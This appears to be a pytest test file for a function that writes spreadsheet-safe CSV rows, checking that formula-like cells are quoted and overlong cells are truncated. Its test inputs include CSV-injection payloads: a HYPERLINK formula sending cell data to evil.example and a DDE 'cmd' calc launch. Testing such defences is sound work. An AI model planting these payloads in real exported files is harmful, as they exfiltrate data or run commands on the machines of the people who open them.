"""alerts.sheet: rows that a spreadsheet opens right and that do nothing there."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from alerts import sheet


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"news")',
        "+1-2",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "＝1+1",
        "＠SUM(1)",
    ],
)
def test_no_text_is_a_formula(text: str) -> None:
    [[cell]] = csv.reader(io.StringIO(sheet.line([text]), newline=""))

    assert cell == f"'{text}"


def test_numbers_and_other_texts_are_themselves() -> None:
    assert sheet.line([-7, "a = b", "", 'Kim\'s "word", said']) == '-7,a = b,,"Kim\'s ""word"", said"\r\n'


def test_a_cell_holds_no_more_than_a_spreadsheet_takes() -> None:
    [[short, long]] = csv.reader(io.StringIO(sheet.line(["a" * 32_767, "=" * 40_000])))

    assert (short, len(long), long[:2], long[-1]) == ("a" * 32_767, 32_767, "'=", "…")


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2))
def test_a_row_is_one_row_with_its_own_cells(cells: list[str]) -> None:
    [read] = csv.reader(io.StringIO(sheet.line(cells), newline=""))

    assert [cell.removeprefix("'") for cell in read] == [cell.removeprefix("'") for cell in cells]
